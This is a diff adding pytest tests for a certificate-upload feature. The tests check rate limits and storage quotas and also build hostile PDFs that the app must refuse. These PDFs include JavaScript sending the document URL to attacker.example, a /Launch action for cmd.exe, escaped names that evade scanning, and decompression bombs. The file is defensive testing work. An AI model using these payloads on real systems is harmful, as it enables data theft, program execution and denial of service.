@@ -2,15 +2,25 @@
 
 import hashlib
 import io
-from datetime import date, timedelta
+import random
+import threading
+import zlib
+from datetime import UTC, date, datetime, timedelta
 
 import pytest
+from PIL import Image
+from pypdf import PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.annotations import Link
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 from sqlalchemy import func, select
 
 from lms.extensions import db
 from lms.models import AuditEvent, Evidence
 
+from .conftest import Auth, make_test_app
 from .evidence_helpers import PLAN, jpeg_bytes, pdf_bytes, png_bytes, text, upload
+from .factories import make_user
 
 
 @pytest.fixture
@@ -263,3 +273,201 @@ def test_the_upload_page_groups_the_date_boxes_under_one_legend(client, auth):
     assert "<legend" in html and "Date on the certificate</legend>" in html
     for part, label in (("day", "Day"), ("month", "Month"), ("year", "Year")):
         assert f'<label class="label date-input-label" for="certificate_date-{part}">{label}</label>' in html
+
+
+# -- PDFs that run something, or unpack to gigabytes ---------------------------------------------
+
+
+def _written(writer: PdfWriter) -> bytes:
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _certificate_writer() -> PdfWriter:
+    return PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
+
+
+def pdf_with_open_javascript() -> bytes:
+    writer = _certificate_writer()
+    writer.add_open_action(JavaScript("app.launchURL('https://attacker.example/?c=' + this.URL);"))
+    return _written(writer)
+
+
+def pdf_opening_a_program() -> bytes:
+    writer = _certificate_writer()
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
+    )
+    return _written(writer)
+
+
+def pdf_with_a_page_action() -> bytes:
+    writer = _certificate_writer()
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): NameObject("/x")})}
+    )
+    return _written(writer)
+
+
+def handmade_pdf(catalog_extra: bytes = b"", contents: list[bytes] | None = None) -> bytes:
+    """A one-page PDF written byte by byte, with its cross-reference table."""
+    streams = contents or [_stream(zlib.compress(b"BT /F1 12 Tf 72 712 Td (Certificate) Tj ET"))]
+    refs = b" ".join(b"%d 0 R" % (4 + i) for i in range(len(streams)))
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [" + refs + b"] >>",
+        *streams,
+    ]
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def _stream(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
+    return b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(data), filters, data)
+
+
+def zeros_deflated(megabytes: int) -> bytes:
+    """`megabytes` of zero bytes, deflated (about a thousandth of the size)."""
+    packer = zlib.compressobj(9)
+    chunk = bytes(1024 * 1024)
+    return b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()
+
+
+UNSAFE_PDFS = {
+    "JavaScript run on opening": (pdf_with_open_javascript, "contains a script (JavaScript)"),
+    # The names spelt with escapes, as an attacker does to get past a search of the bytes.
+    "JavaScript under escaped names": (
+        lambda: handmade_pdf(b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> "),
+        "contains a script (JavaScript)",
+    ),
+    "a program launched on opening": (pdf_opening_a_program, "tries to open another file or program"),
+    "an action run when the page opens": (pdf_with_a_page_action, "actions that run by themselves"),
+    "300 MB of zeros in one stream": (lambda: handmade_pdf(contents=[_stream(zeros_deflated(300))]), "unpacks to far more data"),
+    "deflated twice, 200 MB": (
+        lambda: handmade_pdf(contents=[_stream(zlib.compress(zeros_deflated(200), 9), b"[/FlateDecode /FlateDecode]")]),
+        "unpacks to far more data",
+    ),
+    "two streams of 60 MB": (
+        lambda: handmade_pdf(contents=[_stream(zeros_deflated(60)), _stream(zeros_deflated(60))]),
+        "unpacks to far more data",
+    ),
+    "the start of a PDF, then garbage": (
+        lambda: pdf_bytes()[:200] + b"garbage " * 100 + b"\n%%EOF\n",
+        "is damaged and cannot be read",
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", list(UNSAFE_PDFS))
+def test_a_pdf_that_runs_something_or_unpacks_to_gigabytes_is_refused(client, auth, kind):
+    build, message = UNSAFE_PDFS[kind]
+    data = build()
+    assert len(data) < 1024 * 1024  # small on the wire: the size limit does not catch these
+    auth.login_as("learner")
+    response = upload(client, data)
+    assert response.status_code == 200
+    page = text(response)
+    assert "There is a problem" in page and message in page, page
+    assert stored() == 0
+
+
+def test_an_ordinary_pdf_with_a_link_and_an_opening_page_is_accepted(client, auth):
+    writer = _certificate_writer()
+    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.gov.uk/prevent"))
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+    data = _written(writer)
+    auth.login_as("learner")
+    assert upload(client, data).status_code == 302
+    assert upload(client, handmade_pdf(), "handmade.pdf").status_code == 302
+    assert stored() == 2
+
+
+# -- how much one person may upload --------------------------------------------------------------
+
+
+def test_twenty_uploads_an_hour_then_a_clear_message_saying_when(client, auth, app, time_machine):
+    time_machine.move_to(datetime(2027, 1, 13, 14, 5, tzinfo=UTC), tick=False)
+    auth.login_as("learner")
+    for n in range(20):
+        assert upload(client, pdf_bytes(f"Certificate {n}")).status_code == 302, n
+    time_machine.shift(timedelta(minutes=30))
+    response = upload(client, pdf_bytes("One too many"))
+    assert response.status_code == 200
+    page = text(response)
+    # 14:05 UTC in January is 14:05 in London: the first of the twenty leaves the hour at 15:05.
+    assert "You can upload 20 files an hour, and you have reached that. Try again after 3:05pm" in page
+    assert 'href="#file"' in response.get_data(as_text=True)
+    assert stored() == 20
+    time_machine.shift(timedelta(minutes=31))
+    assert upload(client, pdf_bytes("One too many")).status_code == 302
+    assert stored() == 21
+
+
+def noise_png(kilobytes: int, seed: int) -> bytes:
+    """A PNG of random pixels, which does not compress: about `kilobytes` in size."""
+    side = int((kilobytes * 1024 / 3) ** 0.5)
+    out = io.BytesIO()
+    Image.frombytes("RGB", (side, side), random.Random(seed).randbytes(side * side * 3)).save(out, "PNG")
+    return out.getvalue()
+
+
+def test_withdrawn_and_rejected_files_count_towards_the_stored_quota(client, auth, app):
+    app.config["UPLOAD_QUOTA_MB"] = 1
+    me = auth.login_as("learner")
+    first, second, third = (noise_png(400, seed) for seed in (1, 2, 3))
+    assert upload(client, first, "one.png").status_code == 302
+    withdrawn = db.session.scalar(select(Evidence))
+    assert client.post(f"/evidence/{withdrawn.id}/withdraw").status_code == 302
+    assert upload(client, second, "two.png").status_code == 302
+    rejected = db.session.scalar(select(Evidence).where(Evidence.filename == "two.png"))
+    auth.login_as("lead")
+    client.post(f"/evidence/{rejected.id}/reject", data={"reason": "Unreadable"})
+    db.session.expire_all()
+    assert [e.status for e in db.session.scalars(select(Evidence).order_by(Evidence.id))] == ["withdrawn", "rejected"]
+
+    auth.login(me)
+    response = upload(client, third, "three.png")
+    page = text(response)
+    assert "You can keep 1 MB of uploaded files, and this file would take you past that" in page
+    assert "withdrawn and rejected files count too" in page
+    assert stored() == 2
+    assert upload(client, png_bytes(), "small.png").status_code == 302  # a small one still fits
+
+
+def test_uploads_at_once_through_two_app_servers_never_pass_the_hourly_limit(database_url, tmp_path, app):
+    """The limit is counted in the database: six uploads at the same moment, through two apps
+    (two workers), with two allowed an hour, store exactly two."""
+    app.config["UPLOADS_PER_HOUR"] = 2
+    servers = [app] + [make_test_app(database_url, tmp_path / "second", TRAINING_PLAN=app.config["TRAINING_PLAN"])]
+    servers[1].config["UPLOADS_PER_HOUR"] = 2
+    person = make_user(categories=("staff",))
+    start = threading.Barrier(6)
+    statuses: list[int] = []
+
+    def send(client, n):
+        start.wait()
+        statuses.append(upload(client, pdf_bytes(f"At once {n}")).status_code)
+
+    clients = [servers[n % 2].test_client() for n in range(6)]
+    for client in clients:
+        Auth(client).login(person)
+    threads = [threading.Thread(target=send, args=(client, n)) for n, client in enumerate(clients)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(timeout=60)
+    assert sorted(statuses) == [200, 200, 200, 200, 302, 302]
+    db.session.expire_all()
+    assert stored() == 2
+    with servers[1].app_context():
+        db.engine.dispose()
